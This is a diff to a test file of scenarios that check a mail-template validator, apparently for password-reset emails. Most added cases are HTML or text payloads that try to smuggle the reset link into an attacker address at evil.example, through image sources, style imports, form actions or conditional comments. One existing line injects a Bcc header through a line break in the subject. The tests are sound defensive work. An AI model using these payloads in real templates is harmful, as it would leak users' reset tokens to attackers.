@@ -123,6 +123,37 @@ export const scenarios: Scenario[] = [
   refusedTexts("a link inside an image's address", { html: '<img src="https://evil.example/?u={{url}}">' }, "html"),
   refusedTexts("a link as an image's address", { html: '<a href="{{url}}"></a><img src="{{url}}">' }, "html"),
   refusedTexts("a link inside another link", { html: '<a href="https://evil.example/{{url}}">a</a>' }, "html"),
+  refusedTexts(
+    "a link that only seems to be outside of an image's address",
+    { html: `<a href="{{url}}">a</a><img src='https://evil.example/?a=<b>{{url}}</b>'>` },
+    "html",
+  ),
+  refusedTexts(
+    "a link after a quote that opens nothing",
+    { html: `<img a" src="https://evil.example/?>{{url}}" >` },
+    "html",
+  ),
+  refusedTexts("a link in a style", { html: `<style>@import "https://evil.example/? {{url}} ";</style>` }, "html"),
+  refusedTexts(
+    "a link below a condition",
+    { html: `<!--[if mso]><img src="https://evil.example/?<![endif]-->{{url}}<!--[if mso]>"><![endif]-->` },
+    "html",
+  ),
+  refusedTexts("a link inside a form", { html: `<form action="https://evil.example"><p>{{url}}</p></form>` }, "html"),
+  refusedTexts("a link in brackets of another address", { text: "https://evil.example/?u=({{url}})" }, "text"),
+  {
+    name: "mail templates: HTML as programs for mails write it",
+    as: as.operator,
+    request: post(`${path("reset_password", "nl")}/preview`, {
+      html: `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" ""><html><head><title>Hi</title><meta charset="utf-8">
+        <!--[if mso | IE]><style>td { color: red }</style><![endif]--><style>@media (width>9px) { a>b { color: red } }</style></head>
+        <body><!-- it's "here" --><!--[if mso]><v:rect href="{{url}}"></v:rect><![endif]--><!--[if !mso]><!-->
+        <br/><img src=https://acme.example/a.png alt='' hidden><a class="b" href="{{ url }}">Go</a> ({{url}}).<!--<![endif]--></body></html>`,
+    }),
+    expect: ok({
+      data: { html: matching(/<v:rect href="https?:[^"]+">.*<a class="b" href="https?:[^"]+">Go<\/a> \(http/s) },
+    }),
+  },
   refusedTexts("a text without its link", { text: "Hello" }, "text"),
   refusedTexts("HTML without its link", { html: "<p>Hello</p>" }, "html"),
   refusedTexts("a subject with a line break", { subject: "Hello\r\nBcc: eve@people.test" }, "subject"),
